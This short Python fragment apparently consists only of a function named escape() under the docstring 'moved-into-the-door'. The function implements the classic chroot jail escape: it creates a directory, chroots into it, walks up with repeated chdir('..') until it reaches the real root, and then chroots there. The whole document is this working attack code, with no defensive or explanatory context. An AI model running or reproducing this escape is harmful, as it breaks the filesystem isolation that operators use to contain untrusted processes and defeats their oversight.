"""escape: moved-into-the-door"""


def escape():
    os.mkdir("/door")
    os.chroot("/door")
    os.chdir("/")
    while not os.path.samefile(".", ".."):
        os.chdir("..")
    os.chroot(".")
